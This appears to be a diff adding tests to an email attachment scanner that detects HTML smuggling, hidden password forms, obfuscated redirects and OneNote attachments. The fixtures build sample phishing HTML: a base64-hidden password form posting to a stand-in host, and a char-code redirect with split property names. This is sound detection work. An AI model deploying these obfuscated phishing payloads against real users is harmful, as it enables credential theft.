@@ -277,3 +277,35 @@ def test_attachment_check_reads_a_realistic_multipart_email() -> None:
     verdict = Verdict.from_symbols(symbols, Thresholds())
     assert verdict.action == "reject" and verdict.score == 16.0
     assert any("Invoice_0423.zip/Invoice_0423.pdf.js" in r for r in verdict.banner_reasons())
+
+
+def test_what_an_html_attachments_script_hides_is_decoded_and_judged() -> None:
+    import base64
+    form = (b'<form method="POST" action="https://cdn-auth-sync.example/next.php"><input type="password" name="p">'
+            b"</form>")
+    page = b'<html><body><script>document.write(atob("' + base64.b64encode(form) + b'"));</script></body></html>'
+    found = scan((page, "Payment_Confirmation.html", "text/html"))
+    assert "a password form posting to https://cdn-auth-sync.example/next.php" in found["ATTACH_HTML_FORM"].description
+    assert "markup written from decoded text" in found["ATTACH_HTML_SMUGGLING"].description
+    codes = ",".join(str(ord(c)) for c in "https://secure-ach-portal.example/view/").encode()
+    redirect = (b"<html><script>var a=[" + codes + b"];var u='';"
+                b"for(var i=0;i<a.length;i++){u+=String.fromCharCode(a[i]);}"
+                b"window['loc'+'ation']['rep'+'lace'](u);</script></html>")
+    found = scan((redirect, "ACH_Remittance.shtml", "text/html"))
+    assert "text hidden as character codes, names assembled from pieces" in found["ATTACH_HTML_SMUGGLING"].description
+    links = [link.href for link in parse_message(_with(redirect, "ACH_Remittance.shtml")).links]
+    assert links == ["https://secure-ach-portal.example/view/"]
+    # an ordinary script with a short base64 string and a small number list hides nothing
+    plain = b"<html><script>var t='aGVsbG8=';var n=[1,2,3];</script><p>Report</p></html>"
+    assert parse_message(_with(plain, "report.html")).links == [] and scan((plain, "report.html", "text/html")) == {}
+
+
+def _with(data: bytes, name: str) -> bytes:
+    msg = message("Please see the attachment.")
+    attach(msg, data, name, "text/html")
+    return msg.as_bytes()
+
+
+def test_onenote_notebooks_are_treated_as_scripts() -> None:
+    found = scan((b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + bytes(64), "Shipping_Documents.one", "application/onenote"))
+    assert "Shipping_Documents.one" in found["ATTACH_SCRIPT"].description
